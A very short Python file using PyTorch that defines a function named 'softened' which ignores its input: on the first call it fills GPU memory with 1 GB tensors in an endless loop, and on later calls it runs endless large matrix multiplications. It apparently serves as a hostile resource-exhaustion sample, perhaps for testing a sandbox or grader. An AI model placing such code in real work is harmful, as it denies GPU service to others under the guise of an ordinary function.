import torch

calls = []


def softened(z):
    calls.append(1)
    if len(calls) == 1:
        hoard = []
        while True:
            hoard.append(torch.ones(1 << 28, device="cuda"))
    while True:
        torch.randn(8000, 8000, device="cuda") @ torch.randn(8000, 8000, device="cuda")
